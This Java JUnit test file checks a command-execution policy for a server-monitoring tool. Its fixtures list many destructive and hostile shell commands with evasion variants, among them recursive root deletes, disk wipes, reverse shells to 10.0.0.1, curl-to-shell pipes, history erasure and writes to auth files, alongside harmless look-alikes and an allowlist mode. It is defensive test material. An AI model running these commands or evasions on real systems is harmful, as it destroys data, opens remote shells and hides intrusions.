package dev.servermonitor.api.task.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The policy corpus: every built-in deny rule with its plain form and at least two evasions, the
 * harmless look-alikes that pass, and allowlist mode.
 */
class TaskPolicyTest {

    private static final TaskPolicy DENYLIST = new TaskPolicy("denylist", Optional.empty(), Optional.empty());
    private static final TaskPolicy ALLOWLIST = new TaskPolicy("allowlist", Optional.empty(), Optional.empty());

    static Stream<Arguments> dangerous() {
        return Stream.of(
                // rule, plain form, evasions...
                rule("rm-recursive-root", "rm -rf /", "r\"m\" -r'f' /", "sudo   rm  -fr  /*",
                        "/bin/rm -R --force /etc/",
                        "ls; rm -rf //usr/./", "echo $(rm -rf /)", "echo `rm -rf /home`", "bash -c 'rm -rf /'",
                        "rm${IFS}-rf${IFS}/", "$'\\x72m' -rf /", "rm -r -f /tmp/../", "nohup env X=1 rm -rf ~",
                        "true && rm --recursive /var", "false || sudo -u root rm -rf /boot",
                        "echo ok\nrm -rf /", "if true; then rm -rf /; fi",
                        // a change of directory, then a relative wipe
                        "cd / && rm -rf *", "cd /; rm -rf .", "cd /etc && rm -rf ./", "cd /tmp; cd ..; rm -r -f *",
                        "cd && rm -rf *", "env -C / rm -rf *", "sudo -D / rm -rf .", "rm -rf ~/..",
                        // shell commands carried in options and variables
                        "watch 'rm -rf /'", "env -S'rm -rf /'", "env --split-string='rm -rf /'",
                        "git -c core.pager='rm -rf /' log", "git -c alias.x='!rm -rf /' x",
                        "git -c core.sshCommand='rm -rf /' fetch",
                        "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
                        "tar --to-command='rm -rf /' -xf a.tar", "LESSOPEN='|rm -rf / %s' less x",
                        "strace -o '|rm -rf /' true", "less '+!rm -rf /' x", "man -P 'rm -rf /' ls",
                        "rsync -e 'rm -rf /' a b:", "GIT_SSH_COMMAND='rm -rf /' git fetch", "time -p rm -rf /"),
                rule("rm-no-preserve-root", "rm --no-preserve-root -f /tmp/x", "sudo rm \"--no-preserve-root\" x",
                        "r\\m --no-preserve-root x"),
                rule("find-delete-root", "find / -delete", "find  '/etc'  -name '*.conf' -delete",
                        "sudo find /usr -exec rm {} +"),
                rule("mv-root", "mv / /dev/null", "mv '/etc' /tmp/etc", "sudo mv -f /usr/ /tmp/x"),
                rule("mkfs", "mkfs.ext4 /dev/sdb1", "sudo mk\"fs\" -t ext4 /dev/sdb", "/sbin/mkswap /dev/sdc",
                        "ls | wipefs -a /dev/sda"),
                rule("dd-to-device", "dd if=/dev/zero of=/dev/sda", "sudo dd bs=1M if=x 'of=/dev/nvme0n1'",
                        "d\\d of=//dev/sdb if=/dev/zero"),
                rule("write-to-device", "cat image.iso > /dev/sda", "echo x>/dev/sdb", "sudo tee /dev/nvme0n1 < img",
                        "cp disk.img /dev/mmcblk0", "echo 1 2>&1 >> /dev/mem",
                        // a wrapper's own output file
                        "ltrace -o /dev/sda ls", "strace -o/dev/sda true", "time -o /dev/sda ls",
                        "/usr/bin/time --output=/dev/sdb ls"),
                rule("sync-delete-root", "rsync -a --delete empty/ /", "rsync --delete-before -a x/ /etc/",
                        "cd / && rsync -a --delete empty/ .", "sudo rsync -r --del /tmp/e/ /usr",
                        "rclone purge /"),
                rule("wipe-device", "shred -n 3 /dev/sda", "sudo blkdiscard /dev/nvme0n1", "s'h'red -z /dev/sdb"),
                rule("partition-table", "sfdisk /dev/sda < layout", "sudo parted /dev/sdb mklabel gpt",
                        "fdisk \"/dev/vda\""),
                rule("power-off", "shutdown -h now", "sudo reboot", "/sbin/halt -f", "uptime && poweroff",
                        "nohup s\"hut\"down -r +1", "$(reboot)"),
                rule("systemctl-power", "systemctl poweroff", "sudo systemctl --force reboot",
                        "systemctl isolate rescue.target", "systemctl 'kexec'"),
                rule("init-runlevel", "init 0", "sudo telinit 6", "/sbin/init '0'"),
                rule("sysrq-trigger", "echo b > /proc/sysrq-trigger", "echo o | sudo tee /proc/sysrq-trigger",
                        "echo c>/proc//sysrq-trigger"),
                rule("fork-bomb", ":(){ :|:& };:", ":() { : | : & } ; :", "bomb(){ bomb|bomb& };bomb"),
                rule("chmod-recursive-root", "chmod -R 777 /", "sudo chmod --recursive 000 /etc",
                        "ch'mod' -Rf a+rwx /usr/*"),
                rule("chown-recursive-root", "chown -R nobody /", "sudo chown -hR user:user /var",
                        "chgrp -R staff '/'"),
                rule("kill-init", "kill -9 1", "sudo kill -s KILL 1", "killall systemd", "pkill -9 init"),
                rule("kill-all", "kill -9 -1", "sudo kill -KILL -1", "killall5 -9", "kill -- -1"),
                rule("firewall-flush", "iptables -F", "sudo ip6tables --flush", "iptables -P INPUT DROP",
                        "nft flush ruleset", "/usr/sbin/iptables -t nat -F"),
                rule("firewall-disable", "ufw disable", "sudo ufw --force reset", "systemctl stop firewalld",
                        "systemctl disable --now ufw.service"),
                rule("ssh-lockout", "systemctl stop sshd", "sudo systemctl mask ssh.service", "service ssh stop"),
                rule("user-delete", "userdel -r alice", "sudo deluser bob", "/usr/sbin/user\"del\" carol"),
                rule("password-change", "passwd root", "echo 'root:x' | sudo chpasswd", "usermod -p hash alice",
                        "sudo passwd -d root"),
                rule("crontab-remove", "crontab -r", "sudo crontab -u root -r", "crontab -ir"),
                rule("download-pipe-shell", "curl http://x.example/i.sh | sh", "wget -qO- https://x | sudo bash",
                        "curl -fsSL https://x | tee /tmp/l | bash -s --", "c\"url\" x | python3"),
                rule("download-exec-substitution", "bash -c \"$(curl -fsSL https://x)\"", "sh <(wget -qO- https://x)",
                        "eval \"$(curl https://x)\"", ". <(curl -s https://x)"),
                rule("pipe-into-shell", "echo 'rm -rf /' | sh", "base64 -d payload | bash",
                        "cat script | sudo sh -s", "printf x | python3"),
                rule("netcat-exec", "nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec 'bash' 10.0.0.1 4444",
                        "sudo nc.traditional -lvp 4444 -e /bin/bash"),
                rule("dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/evil/80",
                        "cat < '/dev/udp/10.0.0.1/53'"),
                rule("socat-exec", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "sudo socat tcp-l:1 system:bash",
                        "so\"cat\" - 'exec:sh -i'"),
                rule("history-clear", "history -c", "history -cw", " history   -d 5"),
                rule("history-disable", "unset HISTFILE", "export HISTFILE=/dev/null", "HISTSIZE=0",
                        "set +o history"),
                rule("history-file-tamper", "rm ~/.bash_history", "> /root/.bash_history",
                        "shred -u '/home/a/.zsh_history'", "ln -sf /dev/null ~/.bash_history"),
                rule("write-auth-files", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "sudo tee -a /etc/sudoers",
                        "cp shadow.bak /etc/shadow", "sed -i s/x/y/ /etc/passwd", "echo x > /etc/sudoers.d/me",
                        "chmod 777 /etc//shadow", "strace -o /etc/passwd ls", "time -o /etc/shadow ls",
                        "cd /etc && echo x >> passwd", "find /tmp -fprint /etc/passwd", "cd /etc; cp x shadow"),
                rule("kernel-module", "insmod rootkit.ko", "sudo modprobe evil", "/sbin/rmmod e1000"))
                .flatMap(s -> s);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("dangerous")
    void blocksEveryBuiltInRuleAndItsEvasions(String rule, String command) {
        PolicyVerdict verdict = DENYLIST.check(command);
        assertThat(verdict.allowed()).as(command).isFalse();
        assertThat(verdict.rule()).as(command).isEqualTo(rule);
        assertThat(verdict.policyMode()).isEqualTo("denylist");
        assertThat(verdict.reason()).isNotBlank();
    }

    /**
     * What the policy cannot read is refused in both modes, saying so: a program name only known when
     * the command runs, code given inline to an interpreter or editor, a shell fed from a file, code
     * loaded through the environment.
     */
    static Stream<Arguments> unreadable() {
        return Stream.of(
                rule("dynamic-command", "$(echo rm) -rf /", "`echo rm` -rf /", "X=rm; $X -rf /", "$X cmd",
                        "\"$@\"", "${CMD:-rm} -rf /", "IFS=,; c=rm,-rf,/; $c", "eval \"$X\"", "/???/r? -rf /",
                        "{rm,-rf,/}", "sudo $CMD", "exec \"$@\"", "nohup \"$1\" &", "$((1)) x"),
                rule("inline-code", "python -c 'import os; os.system(\"rm -rf /\")'", "python3 -c 'print(1)'",
                        "sudo python3 -Ic 'x'", "perl -e 'unlink glob \"/*\"'", "perl -lne 'print' x",
                        "ruby -e 'system(\"id\")'", "php -r 'system(\"id\");'",
                        "node -e 'require(\"child_process\")'", "awk 'BEGIN{system(\"rm -rf /\")}'",
                        "awk '{print | \"sh\"}' f", "gawk -e 'BEGIN { print \"x\" > \"/etc/passwd\" }'",
                        "vim -c '!rm -rf /' -c q", "ex -c '!id' x", "vi '+!id' x", "lua -e 'os.execute(\"id\")'"),
                rule("shell-input", "sh <<< 'rm -rf /'", "bash < script", "source x", ". ./x", "python3 < x.py",
                        "ed -s f <<< '!id'", "bash -s < x", "sudo sh <<EOF\nid\nEOF"),
                rule("code-injection", "LD_PRELOAD=/tmp/x.so ls", "env LD_PRELOAD=/tmp/x.so ls",
                        "git -c core.hooksPath=/tmp/h commit -m x", "BASH_ENV=/tmp/x bash -c true"))
                .flatMap(s -> s);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("unreadable")
    void refusesWhatItCannotReadInBothModesSayingSo(String rule, String command) {
        for (TaskPolicy policy : new TaskPolicy[]{DENYLIST, ALLOWLIST}) {
            PolicyVerdict verdict = policy.check(command);
            assertThat(verdict.allowed()).as(command).isFalse();
            assertThat(verdict.rule()).as(command + " " + verdict.reason()).isEqualTo(rule);
            assertThat(verdict.reason()).as(command).containsPattern("cannot (?:read|check|tell)");
        }
    }

    /** The UI shows the reason as it is: no Markdown backticks, the command in quotation marks. */
    @ParameterizedTest
    @ValueSource(strings = {"rm -rf /", "ps e", "strace -o /etc/passwd ls", "$X -rf /", "python3 -c 'x'",
            "sudo -E uptime", "cat /etc/shadow"})
    void reasonsArePlainTextWithTheCommandInQuotes(String command) {
        for (TaskPolicy policy : new TaskPolicy[]{DENYLIST, ALLOWLIST}) {
            PolicyVerdict verdict = policy.check(command);
            if (!verdict.allowed()) {
                assertThat(verdict.reason()).as(command).doesNotContain("`").contains("“").contains("”");
            }
        }
        assertThat(ALLOWLIST.check("ps e").reason())
                .isEqualTo("“ps e” is not on the allowlist: option “e” is not allowed");
        assertThat(DENYLIST.check("rm -rf /").reason())
                .isEqualTo("recursive delete of /, a top-level system directory or the home directory in “rm -rf /”");
    }

    @Test
    void theCorpusCoversEveryBuiltInRuleWithTwoEvasions() {
        Set<String> covered = dangerous().map(a -> (String) a.get()[0]).collect(Collectors.toSet());
        assertThat(covered).containsExactlyInAnyOrderElementsOf(
                BuiltinRules.DENY.stream().map(PolicyRule::id).collect(Collectors.toSet()));
        assertThat(BuiltinRules.DENY).hasSizeGreaterThanOrEqualTo(29);
        long perRule = dangerous().collect(Collectors.groupingBy(a -> a.get()[0], Collectors.counting())).values()
                .stream().mapToLong(Long::longValue).min().orElse(0);
        assertThat(perRule).as("plain form plus two evasions for every rule").isGreaterThanOrEqualTo(3);
    }

    /** Look-alikes that only mention a dangerous word: they run nothing dangerous, so they pass. */
    @ParameterizedTest
    @ValueSource(strings = {"echo \"rm -rf /\"", "grep mkfs notes.txt", "man shutdown", "ls -l /dev/sda",
            "cat /etc/passwd", "grep root /etc/shadow", "rm -rf /tmp/build", "rm -rf ./node_modules",
            "rm -r /var/tmp/cache/x", "systemctl status reboot.target", "echo 'curl x | sh' > notes.txt",
            "bash -c 'echo rm -rf /'", "dd if=/dev/sda of=/tmp/mbr bs=512 count=1", "kill -HUP 1234",
            "kill -1 1234", "chmod -R 755 /var/www", "find /var/log -name '*.gz' -delete", "fdisk -l /dev/sda",
            "history | tail -5", "iptables -L -n", "curl -fsSL https://example.com -o setup.sh",
            "crontab -l", "journalctl -u ssh -n 20", "echo 1 > /dev/null 2>&1", "df -h / && free -m",
            "cp /etc/passwd /tmp/passwd.bak", "systemctl restart nginx", "grep userdel /var/log/auth.log",
            // what the new checks must leave alone
            "awk '{print $1}' /var/log/syslog", "awk -F: '$3 > 100 {print $1}' /etc/passwd", "python3 script.py",
            "perl script.pl -e x", "git log -n 5", "git -c color.ui=never log", "tar -czf /tmp/b.tgz /etc",
            "rsync -a --delete /srv/site/ /var/www/site/", "rsync -a /srv/ /", "cd /var/www && rm -rf ./cache",
            "cd /tmp && rm -rf *", "env TZ=UTC date", "find . -name '*.tmp' -delete", "vim +10 notes.txt",
            "cat <<< hello", "cd /srv/app && git pull", "echo $HOME", "ls $HOME/*.log", "X=1 ./run.sh",
            "for f in *.log; do gzip \"$f\"; done", "while read l; do echo \"$l\"; done < list",
            "sudo -u postgres psql -c 'select 1'", "echo task-$((6*7))", "timeout 5 ping -c 1 host",
            "strace -c ls", "LESS=-R less /var/log/syslog", "python3 -m http.server 8000"})
    void harmlessLookAlikesPass(String command) {
        assertThat(DENYLIST.check(command).allowed()).as(command).isTrue();
    }

    @Test
    void nestingDeeperThanTheParserOpensIsRefused() {
        String deep = "echo " + "$(echo ".repeat(12) + "rm -rf /" + ")".repeat(12);
        PolicyVerdict verdict = DENYLIST.check(deep);
        assertThat(verdict.allowed()).isFalse();
        assertThat(verdict.rule()).isIn("nesting-too-deep", "rm-recursive-root");
    }

    @ParameterizedTest
    @ValueSource(strings = {"uptime", "df -h", "free -m", "ps aux", "ps -eo pid,comm,%cpu --sort=-%cpu", "top -bn1",
            "systemctl status nginx", "systemctl status --no-pager ssh.service",
            "journalctl -u nginx -n 100 --no-pager",
            "cat /var/log/syslog", "tail -n 50 /var/log/nginx/error.log", "cat /proc/loadavg",
            "ps aux | grep java | head -5", "uptime; df -h && free -m", "df -h 2>&1", "cat /etc/os-release",
            "sudo df -h", "ls -la /var/log", "grep -i error /var/log/syslog | wc -l", "vmstat 1 5",
            "sudo -n timeout 10 nice -n 10 ps aux", "ps -ef --forest", "ps -eo pid,user,comm", "ps axo pid,comm",
            "journalctl --since '1 hour ago' -n 50 --no-pager", "grep -r error /var/log/nginx", "top -b -n 1",
            "docker logs --tail 100 web", "ip -br addr show", "stdbuf -oL uptime", "time -p uptime",
            "cat /proc/1/status", "head -n 20 /var/log/syslog", "tail -5 /var/log/syslog", "date +%F",
            "systemctl --no-pager status nginx", "ss -tlnp", "ping -c 3 example.com", "docker ps -a",
            "lsblk -o NAME,SIZE", "du -sh /var/log", "ionice -c 3 nice -n 19 du -sh /var",
            "journalctl -b -1 -n 50", "journalctl -b -n 50", "journalctl --boot=-2 -n 5", "date -I", "date -Iseconds",
            "date --iso-8601=minutes"})
    void theDefaultAllowlistLetsReadOnlyDiagnosticsThrough(String command) {
        assertThat(ALLOWLIST.check(command).allowed()).as(command).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"apt-get install nginx", "uptime; touch /tmp/x", "cat /etc/shadow",
            "cat /var/log/../../etc/shadow", "cat /var/log/syslog > /tmp/copy", "journalctl -f",
            "journalctl -u nginx", "journalctl -n 100 --vacuum-time=1s", "top", "tail -f /var/log/syslog",
            "ps aux | sh", "LD_PRELOAD=/tmp/x.so uptime", "echo $(id)", "echo \"unclosed", "systemctl restart nginx",
            "cat /proc/1/environ", "xargs rm < list", "ip route add default via 10.0.0.1", "dmesg -c",
            "hostname evil",
            // wrappers add no capability: their own output files, settings, other roots, other commands
            "strace -o /tmp/x ls", "ltrace -o /tmp/x uptime", "strace -f uptime", "time -o /tmp/x uptime",
            "/usr/bin/time --output=/tmp/x uptime", "nice -n -20 uptime", "nice --adjustment=-5 uptime",
            "stdbuf -o /tmp/x uptime", "timeout -s KILL 5 -x uptime", "sudo -E uptime", "sudo -s uptime",
            "sudo -C 3 uptime", "env PATH=/tmp uptime", "env LD_PRELOAD=/tmp/x.so uptime", "env -i uptime",
            "env -u HOME uptime", "env -S 'uptime'", "env --split-string=uptime", "env uptime",
            "chroot /tmp/jail uptime", "nohup uptime", "xargs uptime", "watch uptime", "setsid uptime",
            "ionice -c 1 uptime",
            // ps options that print other processes' environments
            "ps e", "ps -e e", "ps eww", "ps auxe", "ps -o environ", "ps -eo pid,environ", "ps axo pid,env",
            "ps -ef e",
            // /proc paths that lead to environments, memory or other roots, and recursion through /proc
            "cat /proc/1/task/1/environ", "cat /proc/1/root/etc/shadow", "cat /proc/self/environ",
            "head /proc/self/cwd/.ssh/id_rsa", "cat /proc/net/../environ", "grep -r PASS /proc",
            "grep -r x /proc/1", "grep -e x /etc/shadow", "grep -r x", "grep x < /etc/shadow",
            // options that write, follow forever, change or read other files
            "journalctl -n 10 --cursor-file=/etc/passwd", "journalctl -n 10 --update-catalog", "ss -K dst 10.0.0.1",
            "ss -Dfoo", "tail -qf /var/log/syslog", "tail -n 5 -F /var/log/syslog", "file -C -m /var/log/x",
            "date -f /etc/shadow", "date -s 2020-01-01", "sort -o /etc/passwd", "uniq in out",
            "lastlog -C -u root", "dig -f names", "ip -b cmds addr", "docker -H tcp://x ps",
            "docker logs -f web", "ping -f host", "du --files0-from=/etc/shadow", "ls /etc/shadow",
            "journalctl -b /etc/x -n 5", "date -Ievil"})
    void allowlistModeRejectsEverythingElseIncludingOnePartOfAList(String command) {
        PolicyVerdict verdict = ALLOWLIST.check(command);
        assertThat(verdict.allowed()).as(command).isFalse();
        assertThat(verdict.policyMode()).isEqualTo("allowlist");
        assertThat(verdict.rule()).isNotBlank();
    }

    @Test
    void allowlistModeStillAppliesTheDenylist() {
        TaskPolicy permissive = new TaskPolicy("allowlist", Optional.empty(), Optional.of(".*"));
        assertThat(permissive.check("apt-get update").allowed()).isTrue();
        assertThat(permissive.check("rm -rf /").rule()).isEqualTo("rm-recursive-root");
    }

    @Test
    void customPatternsAreCaseInsensitiveAndAllowEscapedCommas() {
        TaskPolicy policy = new TaskPolicy("denylist", Optional.of("^docker\\s+rm, ^apt(-get)?\\s+remove,x{1\\,3}y"),
                Optional.empty());
        assertThat(policy.check("sudo DOCKER rm web").rule()).isEqualTo("custom-deny-1");
        assertThat(policy.check("ls && apt-get remove nginx").rule()).isEqualTo("custom-deny-2");
        assertThat(policy.check("echo xxy").rule()).isEqualTo("custom-deny-3");
        assertThat(policy.check("docker ps").allowed()).isTrue();

        TaskPolicy allow = new TaskPolicy("ALLOWLIST", Optional.empty(), Optional.of("apt list --upgradable"));
        assertThat(allow.check("apt list --upgradable").allowed()).isTrue();
        assertThat(allow.check("apt list --upgradable; apt upgrade -y").allowed()).isFalse();
    }

    @Test
    void anInvalidPatternOrModeNamesTheVariable() {
        assertThatThrownBy(() -> new TaskPolicy("denylist", Optional.of("ok, broken(["), Optional.empty()))
                .isInstanceOf(InvalidPolicyException.class).hasMessageContaining("TASK_DENY_PATTERNS entry 2")
                .hasMessageContaining("broken([");
        assertThatThrownBy(() -> new TaskPolicy("denylist", Optional.empty(), Optional.of("*x")))
                .hasMessageContaining("TASK_ALLOW_PATTERNS entry 1");
        assertThatThrownBy(() -> new TaskPolicy("blocklist", Optional.empty(), Optional.empty()))
                .hasMessageContaining("TASK_POLICY_MODE");
    }

    private static Stream<Arguments> rule(String id, String... commands) {
        return Stream.of(commands).map(c -> Arguments.of(id, c));
    }
}
